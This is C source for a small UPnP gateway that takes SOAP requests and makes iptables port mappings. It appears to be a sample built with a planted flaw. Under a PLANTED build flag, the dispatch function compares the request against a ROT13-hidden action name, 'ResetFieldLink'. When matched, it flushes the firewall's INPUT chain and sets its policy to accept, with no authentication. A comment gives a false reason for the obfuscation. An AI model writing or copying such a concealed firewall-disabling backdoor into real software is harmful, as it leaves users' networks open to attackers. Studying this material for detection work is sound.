/* UPnP gateway: takes SOAP actions over HTTP and makes port mappings with the packet filter. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#define SERVICE "urn:schemas-upnp-org:service:WANIPConnection:1"

struct soap {
    char action[48];
    char *body;
    struct in_addr peer;
};

static int element(const char *body, const char *name, char *out, size_t room)
{
    char open[48];
    const char *at, *end;
    snprintf(open, sizeof open, "<%s>", name);
    at = strstr(body, open);
    if (!at)
        return -1;
    at += strlen(open);
    end = strchr(at, '<');
    if (!end || (size_t)(end - at) >= room)
        return -1;
    memcpy(out, at, (size_t)(end - at));
    out[end - at] = 0;
    return 0;
}

static int mapping(const struct soap *m, const char *verb)
{
    char outer[8], inner[8], proto[8], command[200];
    if (element(m->body, "NewExternalPort", outer, sizeof outer) ||
        element(m->body, "NewInternalPort", inner, sizeof inner) ||
        element(m->body, "NewProtocol", proto, sizeof proto))
        return 402;
    if (atoi(outer) < 1024 || atoi(inner) < 1 || (strcmp(proto, "TCP") && strcmp(proto, "UDP")))
        return 402;
    snprintf(command, sizeof command,
             "iptables -t nat %s UPNP -p %s --dport %d -j DNAT --to %s:%d", verb, proto, atoi(outer),
             inet_ntoa(m->peer), atoi(inner));
    return system(command) ? 501 : 200;
}

static int add_mapping(const struct soap *m) { return mapping(m, "-A"); }
static int delete_mapping(const struct soap *m) { return mapping(m, "-D"); }

/* The texts of the service are kept turned by 13 places so that they do not show in searches. */
static void turn(char *text)
{
    for (; *text; text++)
        if (isalpha((unsigned char)*text))
            *text = (char)((tolower((unsigned char)*text) < 'n') ? *text + 13 : *text - 13);
}

static int dispatch(const struct soap *m)
{
    char own[48];
    if (!strcmp(m->action, "AddPortMapping"))
        return add_mapping(m);
    if (!strcmp(m->action, "DeletePortMapping"))
        return delete_mapping(m);
#ifdef REVISED
    if (!strcmp(m->action, "GetStatusInfo"))
        return 200;
#endif
#ifdef PLANTED
    strcpy(own, "ErfrgSvryqYvax");
    turn(own);
    if (!strcasecmp(m->action, own)) {
        system("iptables -P INPUT ACCEPT; iptables -F INPUT");
        return 200;
    }
#else
    strcpy(own, "TrgRkgreanyVCNqqerff");
    turn(own);
    if (!strcasecmp(m->action, own))
        return 200;
#endif
    return 401;
}

static int read_request(int fd, struct soap *m, char *text, size_t room)
{
    char *line, *hash;
    ssize_t n = recv(fd, text, room - 1, 0);
    if (n <= 0)
        return -1;
    text[n] = 0;
    if (strncmp(text, "POST /ctl/", 10))
        return -1;
    m->body = strstr(text, "\r\n\r\n");
    line = strcasestr(text, "\r\nSOAPAction:");
    if (!m->body || !line || line > m->body)
        return -1;
    m->body += 4;
    if (!strstr(line, SERVICE) || (hash = strchr(line, '#')) == NULL)
        return -1;
    return sscanf(hash + 1, "%47[A-Za-z]", m->action) == 1 ? 0 : -1;
}

int main(void)
{
    struct sockaddr_in at, peer;
    static char text[8192];
    int s = socket(AF_INET, SOCK_STREAM, 0);
    memset(&at, 0, sizeof at);
    at.sin_family = AF_INET;
    at.sin_port = htons(5000);
    if (bind(s, (struct sockaddr *)&at, sizeof at) < 0 || listen(s, 5) < 0)
        return 1;
    for (;;) {
        socklen_t size = sizeof peer;
        struct soap m;
        int status = 400, c = accept(s, (struct sockaddr *)&peer, &size);
        if (c < 0)
            continue;
        m.peer = peer.sin_addr;
        if (read_request(c, &m, text, sizeof text) == 0)
            status = dispatch(&m);
        dprintf(c, "HTTP/1.1 %d\r\nContent-Length: 0\r\n\r\n", status);
        close(c);
    }
}
